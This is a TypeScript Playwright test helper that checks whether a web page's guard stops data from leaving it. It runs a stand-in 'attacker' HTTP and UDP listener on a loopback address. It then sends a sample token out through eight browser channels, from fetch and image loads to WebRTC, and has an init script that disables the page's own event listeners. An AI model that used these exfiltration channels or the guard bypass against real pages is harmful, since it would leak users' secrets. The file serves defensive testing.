/** Eight ways out of a page, and an attacker who listens: HTTP on another loopback address, UDP for WebRTC. */
import { createSocket } from 'node:dgram'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { BrowserContext, Page } from 'playwright-core'

export const WAYS_OUT = [
  'fetch',
  'image',
  'form',
  'navigation',
  'window.open',
  'link',
  'meta refresh',
  'WebRTC',
] as const
export type WayOut = (typeof WAYS_OUT)[number]

const ADDRESS = '127.0.0.2'
const SETTLE_MS = 2_000
/** What leaves the page where it is can be tried from one page; the rest needs a page each. */
const TOGETHER: readonly (readonly WayOut[])[] = [
  ['fetch', 'image', 'window.open', 'WebRTC'],
  ['form'],
  ['navigation'],
  ['link'],
  ['meta refresh'],
]

export interface Attacker {
  readonly url: string
  readonly stun: string
  /** The ways by which something arrived since the last call. */
  arrived(): readonly WayOut[]
  close(): Promise<void>
}

export async function openAttacker(): Promise<Attacker> {
  const ways = new Set<string>()
  const http = createServer(({ url = '' }, response) => {
    ways.add(decodeURIComponent(url.slice(1).split('?')[0] ?? ''))
    response.end('got it')
  })
  const udp = createSocket('udp4')
  udp.on('message', () => ways.add('WebRTC'))
  await new Promise<void>((resolve) => http.listen(0, ADDRESS, resolve))
  await new Promise<void>((resolve) => udp.bind(0, ADDRESS, resolve))
  return {
    url: `http://${ADDRESS}:${(http.address() as AddressInfo).port}/`,
    stun: `stun:${ADDRESS}:${udp.address().port}`,
    arrived() {
      const all = WAYS_OUT.filter((way) => ways.has(way))
      ways.clear()
      return all
    },
    async close() {
      udp.close()
      http.closeAllConnections()
      await new Promise<void>((resolve) => http.close(() => resolve()))
    },
  }
}

/** Tries all of them. @param unguarded the page's own guard is kept from closing the doors */
export async function tryWaysOut(
  context: BrowserContext,
  url: string,
  attacker: Attacker,
  { unguarded = false } = {},
): Promise<readonly WayOut[]> {
  attacker.arrived()
  await Promise.all(
    TOGETHER.map(async (ways) => {
      const page = await context.newPage()
      if (unguarded) await page.addInitScript(keepDoorsOpen)
      await page.goto(url)
      await page.locator('h1').waitFor()
      for (const way of ways) await attempt(page, way, attacker)
    }),
  )
  await new Promise((resolve) => setTimeout(resolve, SETTLE_MS))
  await Promise.all(context.pages().map((page) => (page.url() === 'about:blank' ? undefined : page.close())))
  return attacker.arrived()
}

/** Before the page's scripts: what they take away stays reachable, what they listen to is not heard. */
function keepDoorsOpen(): void {
  const { addEventListener, open } = window
  const navigation = Reflect.get(window, 'navigation') as EventTarget
  navigation.addEventListener = () => undefined
  window.addEventListener = (...[kind, ...rest]: Parameters<typeof addEventListener>) => {
    if (kind !== 'click' && kind !== 'auxclick') addEventListener.call(window, kind, ...rest)
  }
  Object.assign(window, { openAsBefore: open, ConnectionAsBefore: window.RTCPeerConnection })
}

async function attempt(page: Page, way: WayOut, { url, stun }: Attacker): Promise<void> {
  const to = `${url}${encodeURIComponent(way)}?token=secret`
  // A navigation that begins ends the evaluation.
  await page.evaluate(act, { way, to, stun }).catch(() => undefined)
}

function act({ way, to, stun }: { way: string; to: string; stun: string }): void {
  const add = <Name extends keyof HTMLElementTagNameMap>(name: Name, members: object) => {
    const element = document.createElement(name)
    Object.assign(element, members)
    document.body.append(element)
    return element
  }
  if (way === 'fetch') void fetch(to, { mode: 'no-cors' })
  else if (way === 'image') add('img', { src: to })
  else if (way === 'form') add('form', { action: to, method: 'post' }).submit()
  else if (way === 'navigation') location.assign(to)
  else if (way === 'link') add('a', { href: to }).click()
  else if (way === 'meta refresh') add('meta', { httpEquiv: 'refresh', content: `0;url=${to}` })
  else if (way === 'window.open') {
    const open = (Reflect.get(window, 'openAsBefore') ?? window.open) as typeof window.open
    open.call(window, to)
  } else {
    const Connection = (Reflect.get(window, 'ConnectionAsBefore') ??
      window.RTCPeerConnection) as typeof RTCPeerConnection
    const connection = new Connection({ iceServers: [{ urls: stun }] })
    connection.createDataChannel('out')
    void connection.createOffer().then((offer) => connection.setLocalDescription(offer))
  }
}
